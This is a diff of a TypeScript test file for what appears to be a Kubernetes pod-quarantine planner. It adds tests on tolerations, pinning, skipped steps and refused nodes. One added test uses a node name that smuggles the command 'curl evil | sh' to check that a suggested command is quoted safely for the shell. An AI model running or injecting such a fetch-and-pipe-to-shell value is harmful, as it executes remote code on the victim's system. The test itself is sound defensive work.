@@ -1,7 +1,8 @@
 import { describe, expect, it } from 'vitest';
+import type { SuspectKind } from '../../model/action.js';
 import { NOT_STATED } from '../../model/case.js';
 import { foresee } from './foresee.js';
-import { type SuspectKind, suspectKindOf } from './owner-effects.js';
+import { suspectKindOf } from './owner-effects.js';
 import { labelsAfter, planHold } from './plan-hold.js';
 import type { QuarantineRequest } from './quarantine-request.js';
 import type { Scene, Suspect } from './read-scene.js';
@@ -29,6 +30,7 @@ const suspectOf = (more: Partial<Suspect> = {}, spec: object = { tolerations: LO
   owner: null,
   ownerSelector: { matchLabels: { app: 'cart' } },
   services: ['cart'],
+  moreServices: 0,
   selectorKeys: ['app'],
   ...more,
 });
@@ -74,7 +76,7 @@ describe('a plan of level hold', () => {
     const node = { ...NODE, object: { metadata: {}, spec: { unschedulable: true } } };
     const pinned = suspectOf({}, { tolerations: LOST() });
     expect(namesOf({ ...sceneOf([pinned]), nodes: [node] })).toEqual([
-      ...['annotate-node', 'taint', 'annotate-pod', 'deny-policy', 'detach'],
+      ...['annotate-node', 'annotate-pod', 'taint', 'deny-policy', 'detach'],
     ]);
   });
 
@@ -115,8 +117,21 @@ describe('what is foreseen', () => {
     expect(notAchieved(sceneOf([suspectOf({}, { hostNetwork: true })]))).toContain('uses the network of its node');
     expect(notAchieved(sceneOf([suspectOf({}, {})]))).toContain('deleted when the node is lost');
     expect(notAchieved(sceneOf([suspectOf({}, { tolerations: [{ operator: 'Exists' }] })]))).not.toContain('is lost');
+    const forAMinute = { operator: 'Exists', effect: 'NoExecute', tolerationSeconds: 60 };
+    expect(namesOf(sceneOf([suspectOf({}, { tolerations: [forAMinute] })]))).toContain('pin');
+    const ofNothingElse = { operator: 'Exists', effect: 'NoSchedule' };
+    expect(notAchieved(sceneOf([suspectOf({}, { tolerations: [ofNothingElse] })]))).toContain('deleted when the node');
     const ownerSelector = { matchExpressions: [{ key: 'absent', operator: 'DoesNotExist' }] };
     expect(notAchieved(sceneOf([suspectOf({ ownerSelector })]))).toContain('still found by its controller');
+  });
+
+  it('counts the label of ours only where a step gives it, and a pin only where a step makes it', () => {
+    const scene = sceneOf([suspectOf()]);
+    const without = (...skip: QuarantineRequest['skip']) =>
+      foresee(scene, planHold({ ...REQUEST, skip }, scene, NAMES), TOKEN).notAchieved.join();
+    expect(without()).not.toMatch(/no policy restricts it|is not pinned/);
+    expect(without('detach')).toContain('pod shop/cart-1: no policy restricts it');
+    expect(without('pin')).toContain('pod shop/cart-1 is not pinned');
   });
 
   it('says that a policy is missing when it was skipped', () => {
@@ -155,6 +170,15 @@ describe('a target that is refused', () => {
   ])('is %j, unless it is named', (object) => {
     expect(() => refuse(withNode(object))).toThrow(expect.objectContaining({ code: 'TARGET_PROTECTED' }));
     expect(() => refuse(withNode(object), { allowedNodes: ['worker'] })).not.toThrow();
+  });
+
+  it('is told by a command that a shell takes as one word, whatever the node is called', () => {
+    const name = "x'; curl evil | sh; '";
+    const scene = { ...sceneOf([]), nodes: [{ ...NODE, name }] };
+    const quoted = `Repeat the command with --allow-node 'x'\\''; curl evil | sh; '\\'''`;
+    expect(() => refuse(scene, {}, { host: name, bootId: 'unknown' })).toThrow(
+      expect.objectContaining({ hints: [quoted] }),
+    );
   });
 
   it('is one of our own name, and none of which the boot is not known', () => {
